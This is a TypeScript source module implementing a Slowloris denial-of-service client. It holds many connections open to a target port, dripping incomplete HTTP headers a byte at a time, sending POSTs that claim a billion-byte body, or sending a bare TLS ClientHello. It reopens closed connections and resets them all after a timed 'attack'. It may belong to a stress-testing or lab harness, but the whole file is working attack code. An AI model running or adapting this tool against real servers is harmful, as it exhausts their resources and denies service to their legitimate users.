/**
 * Connections that cost their client next to nothing and hold on to what the server gives them.
 * @module
 */
import {
  CloseCode,
  type Loop,
  type Socket,
  type SocketContext,
  type TlsOptions,
} from "@usockets/usockets";
import { hostOf, type SlowlorisReply } from "./orders.ts";

/** How many connections may be on their way at once. */
const MAX_CONNECTING = 128;
/** Each sends a byte a second; a part of them at each turn. */
const TURNS_PER_SECOND = 20;

const encoder = new TextEncoder();
const HEAD = encoder.encode("GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: ");
const BODY = encoder.encode(
  "POST / HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000000000\r\n\r\n",
);
const FILLER = encoder.encode("a");

/** How a connection is slow. */
interface Slow {
  /** What it sends at once, and what byte by byte; then as many more bytes as it is let. */
  readonly first: Uint8Array | null;
  readonly drip: Uint8Array | null;
  dripped: number;
}

/** Whom to hold on to. */
export interface SlowTarget {
  readonly port: number;
  readonly tls: TlsOptions | undefined;
  readonly connections: number;
}

/** Slow clients on one loop. */
export class Slowloris {
  readonly #target: SlowTarget;
  readonly #loop: Loop;
  readonly #contexts: SocketContext<Slow>[];
  readonly #open: Set<Socket<Slow>>[] = Array.from({ length: TURNS_PER_SECOND }, () => new Set());
  #toOpen: SocketContext<Slow>[] = [];
  #connecting = 0;
  #begun = 0;
  #closed = 0;
  #failed = 0;
  #isOver = false;

  /** @param clientHello What half of the clients of TLS send, and nothing behind it. */
  constructor(loop: Loop, target: SlowTarget, clientHello: Uint8Array | null) {
    this.#loop = loop;
    this.#target = target;
    const head = this.#context(target.tls, () => ({ first: null, drip: HEAD, dripped: 0 }));
    const other = this.#context(undefined, () => ({
      first: clientHello ?? BODY,
      drip: clientHello === null ? FILLER : null,
      dripped: 0,
    }));
    this.#contexts = [head, other];
  }

  #context(tls: TlsOptions | undefined, socketExt: () => Slow): SocketContext<Slow> {
    const context: SocketContext<Slow> = this.#loop.createContext({
      tls,
      socketExt,
      onOpen: (socket) => {
        this.#open[this.#begun++ % TURNS_PER_SECOND].add(socket);
        if (socket.ext.first !== null) socket.write(socket.ext.first);
        if (tls === undefined) this.#connected();
      },
      onHandshake: () => this.#connected(),
      onConnectError: () => {
        this.#failed++;
        // Not at once: a server that is gone would be asked without end.
        this.#toOpen.push(context);
        this.#connecting--;
      },
      onClose: (socket, code) => {
        for (const part of this.#open) part.delete(socket);
        if (this.#isOver || code === CloseCode.Freed) return;
        this.#closed++;
        this.#toOpen.push(context);
        if (tls !== undefined && socket.tls === null) this.#connecting--;
        this.#openMore();
      },
    });
    return context;
  }

  /** Holds on for so long, then lets go of all. */
  attack(seconds: number, done: (reply: SlowlorisReply) => void): void {
    this.#isOver = false;
    this.#closed = this.#failed = this.#connecting = 0;
    const { connections } = this.#target;
    this.#toOpen = Array.from({ length: connections }, (_, i) => this.#contexts[i % 2]);
    const drips = this.#loop.createTimer();
    let turn = 0;
    drips.set(() => this.#drip(turn++), 1000 / TURNS_PER_SECOND, 1000 / TURNS_PER_SECOND);
    this.#loop.createTimer().set((timer) => {
      timer.close();
      drips.close();
      const alive = this.#open.reduce((sum, part) => sum + part.size, 0);
      this.#letGo();
      done({ alive, closed: this.#closed, failed: this.#failed });
    }, seconds * 1000);
    this.#openMore();
  }

  #connected(): void {
    this.#connecting--;
    if (!this.#isOver) this.#openMore();
  }

  #openMore(): void {
    while (this.#toOpen.length > 0 && this.#connecting < MAX_CONNECTING) {
      this.#connecting++;
      const { port } = this.#target;
      this.#toOpen.shift()!.connect({ host: hostOf(this.#begun + this.#connecting), port });
    }
  }

  #drip(turn: number): void {
    for (const socket of this.#open[turn % TURNS_PER_SECOND]) {
      const { ext } = socket;
      if (ext.drip === null) continue;
      const byte = ext.drip.subarray(ext.dripped, ext.dripped + 1);
      ext.dripped += socket.write(byte.length === 0 ? FILLER : byte);
    }
    this.#openMore();
  }

  /** By a RST: nothing of them shall wait in the kernel. */
  #letGo(): void {
    this.#isOver = true;
    this.#toOpen = [];
    for (const part of this.#open) for (const socket of part) socket.reset();
    // Those that connect.
    for (const context of this.#contexts) context.close();
  }
}

/** What a client of TLS says first, as it would be sent to a server of that name. */
export function captureClientHello(
  loop: Loop,
  tls: TlsOptions,
  done: (clientHello: Uint8Array) => void,
): void {
  const server = loop.createContext({
    onData(_socket, data) {
      const clientHello = data.slice();
      server.free();
      client.free();
      done(clientHello);
    },
  });
  const client = loop.createContext({ tls });
  const { port } = server.listen({ host: "127.0.0.1", port: 0 });
  client.connect({ host: "127.0.0.1", port });
}
